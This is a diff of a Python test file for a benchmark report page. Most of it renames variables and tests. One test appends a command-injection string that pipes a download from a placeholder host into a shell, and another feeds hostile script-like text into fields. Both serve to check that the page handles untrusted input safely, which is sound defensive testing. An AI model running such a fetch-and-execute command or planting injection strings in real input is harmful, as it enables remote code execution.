@@ -1,4 +1,4 @@
-"""The page of a report: what it knows is what the summaries say; strangers' texts are data; it loads nothing."""
+"""The page of a report: its numbers are those of the summaries, texts of files are data, and it loads nothing."""
 
 import json
 import re
@@ -26,27 +26,27 @@ def test_columns_are_the_numbers_of_the_summaries():
         for n in (1, 2)
         for b, s in (("mkl", 1e-3), ("openblas", 2e-3))
     ]
-    found = content.of_file(file(records), "mine")
+    data = content.of_file(file(records), "mine")
     summaries = summarize(records)
 
-    assert [s.estimate.time_s for s in summaries] == found["columns"]["time_s"]
-    assert [s.flop_per_s for s in summaries] == found["columns"]["flop_per_s"]
-    assert ["fastest", None, "fastest", None] == found["columns"]["position"]
-    assert ["gemm m=4 k=4 a_t=0 b_t=0"] * 4 == found["columns"]["family"]
-    assert [1, 1, 2, 2] == found["columns"]["size"]
-    assert "gemm: MKL 2" in " ".join(found["sentences"])
-    assert len(records) == len(found["samples"])
-    assert [4] * 4 == found["fields"]["m"]
-    assert [1, 1, 2, 2] == found["fields"]["n"]
+    assert [s.estimate.time_s for s in summaries] == data["columns"]["time_s"]
+    assert [s.flop_per_s for s in summaries] == data["columns"]["flop_per_s"]
+    assert ["fastest", None, "fastest", None] == data["columns"]["position"]
+    assert ["gemm m=4 k=4 a_t=0 b_t=0"] * 4 == data["columns"]["family"]
+    assert [1, 1, 2, 2] == data["columns"]["size"]
+    assert "gemm: MKL 2" in " ".join(data["sentences"])
+    assert len(records) == len(data["samples"])
+    assert [4] * 4 == data["fields"]["m"]
+    assert [1, 1, 2, 2] == data["fields"]["n"]
 
 
 def test_fields_of_other_operations_are_missing():
     conv = "conv n=1 c=2 h=5 w=5 k=3 r=3 s=3 forward f32 onednn threads=1"
-    found = content.of_file(file([samples.measured(), samples.measured(text=conv)]), "mine")
+    data = content.of_file(file([samples.measured(), samples.measured(text=conv)]), "mine")
 
-    assert [3, 1] == found["fields"]["n"]
-    assert [2, None] == found["fields"]["m"]
-    assert [None, 5] == found["fields"]["h"]
+    assert [3, 1] == data["fields"]["n"]
+    assert [2, None] == data["fields"]["m"]
+    assert [None, 5] == data["fields"]["h"]
 
 
 def test_published_machines_have_fields_too():
@@ -58,27 +58,27 @@ def test_published_machines_have_fields_too():
 def test_a_command_is_offered_only_for_words_that_are_safe_to_paste():
     good, bad = samples.measured(), samples.measured(seconds=2e-3)
     bad["case"] += "; curl evil | sh #"
-    found = content.of_file(file([good, bad]), "mine")
+    data = content.of_file(file([good, bad]), "mine")
 
-    assert [f"deepbench run {good['case']}", None] == found["columns"]["command"]
+    assert [f"deepbench run {good['case']}", None] == data["columns"]["command"]
 
 
-def test_a_cpu_and_a_gpu_are_told_apart():
+def test_a_cpu_and_a_gpu_do_not_compete():
     text = "gemm m=64 n=64 k=64 a_t=0 b_t=0 forward f32 {} threads=1"
     records = [samples.measured(b, s, text=text.format(b)) for b, s in (("mkl", 1e-3), ("cublas", 1e-6))]
-    found = content.of_file(file(records), "mine")
+    data = content.of_file(file(records), "mine")
 
-    assert ["cpu", "cuda"] == found["columns"]["device"]
-    assert ["fastest", "fastest"] == found["columns"]["position"]  # they do not compete
-    assert [("cpu", 1), ("cuda", 1)] == [(place["device"], place["threads"]) for place in found["limits"]]
-    for place, s in zip(found["limits"], summarize(records), strict=True):
+    assert ["cpu", "cuda"] == data["columns"]["device"]
+    assert ["fastest", "fastest"] == data["columns"]["position"]  # they do not compete
+    assert [("cpu", 1), ("cuda", 1)] == [(place["device"], place["threads"]) for place in data["limits"]]
+    for place, s in zip(data["limits"], summarize(records), strict=True):
         assert place["peaks"]["f32"] == pytest.approx(s.flop_per_s)
-    told = " ".join(found["sentences"])
-    assert "on the CPU: " in told
-    assert "on the GPU: " in told
+    text = " ".join(data["sentences"])
+    assert "on the CPU: " in text
+    assert "on the GPU: " in text
 
 
-def test_an_interval_from_inside_one_process_says_so():
+def test_an_interval_of_one_process_is_marked():
     one = content.of_file(file([samples.measured()]), "mine")
     two = content.of_file(file([samples.measured(), samples.measured()]), "mine")
 
@@ -87,7 +87,7 @@ def test_an_interval_from_inside_one_process_says_so():
     assert ["processes"] == two["columns"]["interval_of"]
 
 
-def test_ways_to_do_the_same_work_are_one_family():
+def test_variants_are_one_family():
     text = "all_reduce n={} ranks=2 forward f32 openmpi threads=1{}"
     records = [
         samples.measured("openmpi", 1e-3, text=text.format(n, w)) for n, w in ((10, " algorithm=ring"), (100, ""))
@@ -96,15 +96,15 @@ def test_ways_to_do_the_same_work_are_one_family():
     assert 1 == len(set(content.of_file(file(records), "mine")["columns"]["family"]))
 
 
-def test_a_comparison_knows_how_much_sessions_differ(monkeypatch, tmp_path):
+def test_a_comparison_takes_drift_between_sessions_into_account(monkeypatch, tmp_path):
     def runs(seconds):
         records = [samples.measured(seconds=seconds * (1 + 0.001 * i)) for i in range(5)]
         return file([{**r, "round": i} for i, r in enumerate(records, 1)])
 
-    found = runs(1e-3), runs(1.04e-3)
-    assert "slower" == content.of_pair(*found, ("a", "b"))["cases"][0]["verdict"]
+    data = runs(1e-3), runs(1.04e-3)
+    assert "slower" == content.of_pair(*data, ("a", "b"))["cases"][0]["verdict"]
     monkeypatch.setattr(content.selftest, "between_files", lambda a, b: 0.03)
-    assert "cannot tell" == content.of_pair(*found, ("a", "b"))["cases"][0]["verdict"]
+    assert "cannot tell" == content.of_pair(*data, ("a", "b"))["cases"][0]["verdict"]
 
 
 def test_samples_are_thinned_and_keep_their_order():
@@ -118,15 +118,15 @@ def test_a_page_holds_hostile_texts_as_data_only():
     bad["problem"] = {"m": 1, HOSTILE: 2}
     header = samples.header()
     header["machine"]["cpu"] = HOSTILE
-    found = ResultFile(Path("mine.jsonl"), header, [bad, samples.measured()])
-    html = render.page({"files": [content.of_file(found, HOSTILE)], "pairs": []}, HOSTILE).decode()
+    data = ResultFile(Path("mine.jsonl"), header, [bad, samples.measured()])
+    html = render.page({"files": [content.of_file(data, HOSTILE)], "pairs": []}, HOSTILE).decode()
 
     scripts = re.findall(r"<script[^>]*>", html)
     # The data, Plotly and ours; what a stranger wrote opened none.
     assert 2 + len(render.SCRIPTS) == len([s for s in scripts if "alert" not in s]) == len(scripts)
     assert "<img" not in html
-    data = re.search(r'<script type="application/json" id="content">(.*?)</script>', html, re.S)[1]
-    assert HOSTILE == json.loads(data)["files"][0]["name"]
+    embedded = re.search(r'<script type="application/json" id="content">(.*?)</script>', html, re.S)[1]
+    assert HOSTILE == json.loads(embedded)["files"][0]["name"]
 
 
 def test_the_policy_names_each_script_by_its_hash():
@@ -138,11 +138,11 @@ def test_the_policy_names_each_script_by_its_hash():
     assert "unsafe-inline" not in policy.split("style-src")[0]
 
 
-def test_two_files_beside_each_other():
+def test_two_files_are_compared():
     a, b = (file([samples.measured(seconds=s, round_number=i) for i in range(1, 6)]) for s in (1e-3, 2e-3))
-    found = content.of_pair(a, b, ("a", "b"))
+    data = content.of_pair(a, b, ("a", "b"))
 
-    assert found["cases"][0]["ratio"] == pytest.approx(2.0)
-    assert compare.compare_files(a, b).cases[0].case == found["cases"][0]["case"]
+    assert data["cases"][0]["ratio"] == pytest.approx(2.0)
+    assert compare.compare_files(a, b).cases[0].case == data["cases"][0]["case"]
     nothing = content.of_pair(a, file([samples.measured("openblas")]), ("a", "b"))
     assert "no measured case in common" in nothing["heading"][0]
